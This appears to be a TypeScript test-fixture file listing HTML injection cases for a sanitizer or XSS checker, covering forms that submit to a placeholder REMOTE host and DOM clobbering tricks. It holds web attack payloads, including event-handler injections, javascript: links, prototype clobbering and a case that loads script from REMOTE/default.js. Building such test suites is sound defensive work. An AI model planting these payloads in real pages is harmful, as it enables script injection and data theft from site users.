// Forms that send or run, and names that stand in for what a page relies on.
import type { Kind } from './case.ts'

export const forms: Kind = {
  kind: 'form',
  click: true,
  cases: {
    'a form that sends elsewhere': '<form action="REMOTE/form"><button>xxxxxxxx</button></form>',
    'a form that sends by post':
      '<form method=post action="REMOTE/post" enctype=text/plain><input type=hidden name=a value=b><button>xxxxxxxx</button></form>',
    'a form that takes the whole window':
      '<form target=_parent action="REMOTE/parent"><button>xxxxxxxx</button></form>',
    'a button that sends another form': '<button form=f>xxxxxxxx</button><form id=f action="REMOTE/other"></form>',
    'a button with an address of its own': '<form><button formaction="REMOTE/own">xxxxxxxx</button></form>',
    'a form in a dialog':
      '<dialog open style="inset:0"><form method=get action="REMOTE/dialog"><button>xxxxxxxx</button></form></dialog>',
    'a form that hears of being sent': '<form onsubmit=RUN action="#"><button>xxxxxxxx</button></form>',
    'a form that is not in order': '<form><button>xxxxxxxx</button><input required oninvalid=RUN></form>',
    'a ping': '<a href="#x" ping="REMOTE/ping">xxxxxxxx</a>',
  },
}

export const clobbering: Kind = {
  kind: 'clobbering',
  cases: {
    'a form that sends itself': '<form action="REMOTE/31" id=f><input name=x></form><script>f.submit()</script>',
    'a form whose attributes are an input':
      '<form onclick=RUN><input name=attributes><input name=children><input name=parentNode></form><img src=x onerror=RUN>',
    'a form whose node name is an input':
      '<form id=x tabindex=0 autofocus onfocus=RUN><input id=nodeName><input name=removeAttribute></form>',
    'pictures named like the document':
      '<img name=body><img name=cookie><img name=getElementById><img name=currentScript src=x onerror=RUN>',
    'a link named like what a page relies on':
      '<a id=settings></a><a id=settings name=start href="javascript:RUN"></a><script>location=settings.start</script>',
    'a form with an owner elsewhere': '<input form=y name=innerHTML autofocus onfocus=RUN><form id=y></form>',
    'a frame named like a global': '<iframe name=top srcdoc="<script>parent.top===self;RUN</script>"></iframe>',
    'a default that is an address':
      '<a id=defaults><a id=defaults name=src href="REMOTE/default.js"></a><script>var s=document.createElement("script");s.src=defaults.src;document.body.append(s)</script>',
    'an output that is a prototype':
      '<form id=__proto__><output name=toString>x</output></form><img id=constructor src=x onerror=RUN>',
  },
}
